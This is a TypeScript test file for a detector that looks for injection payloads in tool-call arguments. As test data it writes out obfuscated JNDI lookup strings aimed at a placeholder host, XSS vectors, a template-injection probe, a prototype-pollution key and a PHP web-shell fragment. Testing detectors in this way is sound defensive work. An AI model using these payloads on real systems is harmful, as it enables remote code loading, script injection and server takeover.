// What the detectors of payloads in arguments stand on: signs that gate them, tags as browsers read
// them, lookups unfolded, keys that are operators or prototypes.
import { describe, expect, it } from "vitest";
import { hasLookup } from "../../src/detect/arguments/lookup.ts";
import { actedOn } from "../../src/detect/arguments/markup-decode.ts";
import { tagsOf } from "../../src/detect/arguments/markup-tags.ts";
import { marksOf, MARKS } from "../../src/detect/arguments/payload-gate.ts";
import { ARGUMENT_DETECTORS } from "../../src/detect/registry.ts";
import { scan } from "../../src/detect/scan.ts";
import { expressionsOf } from "../../src/detect/arguments/template-expressions.ts";
import type { DeclaredContent } from "../../src/domain/segment.ts";

describe("signs", () => {
  it.each(["New York", "ann", "10:30", "it's fine", "two (2) rooms", "a, b and c", "$5 each"])(
    "sees none but harmless ones in %s",
    (text) => {
      expect(marksOf(text) & ~MARKS.paren).toBe(0);
    },
  );

  it("tells a call from a remark, a key from a time, a quotation from an apostrophe", () => {
    expect(marksOf("f(x)")).toBe(MARKS.call);
    expect(marksOf("javascript:x")).toBe(MARKS.colon);
    expect(marksOf("'x")).toBe(MARKS.quote);
  });

  it("forgets the text before", () => {
    expect(marksOf("<")).toBe(MARKS.less);
    expect(marksOf("{")).toBe(MARKS.brace);
    expect(marksOf("<")).toBe(MARKS.less);
  });
});

describe("tags", () => {
  it("reads attributes without quotes, spaces or an end", () => {
    const [tag] = tagsOf("<IMG/src=x onerror\n=\ngo(1)");
    expect(tag?.name).toBe("img");
    expect(tag?.attributes).toEqual([
      { name: "src", value: "x" },
      { name: "onerror", value: "go(1)" },
    ]);
  });

  it("begins a new tag inside one that never ended", () => {
    expect(tagsOf("<b <script>go()").map(({ name }) => name)).toEqual(["b", "script"]);
  });

  it("takes a quote that never closes for a part of the value", () => {
    expect(tagsOf(`<a title="x><i y='z'>`).map(({ name }) => name)).toEqual(["a", "i"]);
  });

  it("passes comparisons and end tags", () => {
    expect(tagsOf("a < 3 </b> <3")).toEqual([]);
  });

  it("undoes what browsers ignore in a URL", () => {
    expect(actedOn("&#1;jav&#x09;a&Tab;scr\\x00ipt&colon;go")).toBe("javascript:go");
  });
});

describe("expressions", () => {
  it("finds each with its delimiters", () => {
    const found = [...expressionsOf("a {{ b }} ${c} <%= d %> {% e %} {{ open")];
    expect(found.map(({ inner }) => inner)).toEqual(["b", "c", "d", "e"]);
    expect(found.map(({ written }) => written)).toEqual(["{{ b }}", "${c}", "<%= d %>", "{% e %}"]);
  });
});

describe("lookups", () => {
  it.each([
    "${jndi:ldap://x.example/a}",
    "${${lower:J}ndi:dns://x.example}",
    "${${::-j}${::-n}${::-d}${::-i}${::-:}rmi://x.example}",
    "${${env:NONE:-${lower:j}}ndi:ldap://x.example}",
    "$&#123;jndi:ldap://x.example}",
  ])("unfolds %s", (text) => {
    expect(hasLookup(text)).toBe(true);
  });

  it.each(["${env:HOME}", "${lower:X}", "jndi is a Java API", "${a:-b}"])("passes %s", (text) => {
    expect(hasLookup(text)).toBe(false);
  });
});

describe("situations", () => {
  const payloads = "<svg onload=go(1)> {{7*7}} __proto__[a]=1 <?php system($_GET['c']);";
  const found = (declared: DeclaredContent): string[] =>
    scan(
      { text: payloads, kind: "tool_argument", direction: "output", path: "a", declared },
      ARGUMENT_DETECTORS,
    ).map(({ category }) => category);

  it("reads plain text and URLs for payloads", () => {
    for (const declared of ["text", "url"] as const) {
      expect(found(declared)).toEqual(expect.arrayContaining(["xss", "template_injection"]));
    }
  });

  it("is silent where a program is expected", () => {
    expect(found("code")).not.toContain("xss");
    expect(found("code")).not.toContain("code_injection");
  });
});

it("says less of the same markup in a file than in a field", () => {
  const sure = (text: string): number =>
    Math.max(
      ...scan({ text, kind: "tool_argument", direction: "output", path: "a" }, ARGUMENT_DETECTORS)
        .filter(({ category }) => category === "xss")
        .map(({ confidence }) => confidence),
    );
  const button = '<button onclick="save()">Save</button>';
  expect(sure(button)).toBeGreaterThanOrEqual(0.8);
  expect(sure(`<html>\n<body>\n<p>Form</p>\n${button}\n</body>\n</html>`)).toBeLessThan(0.8);
});
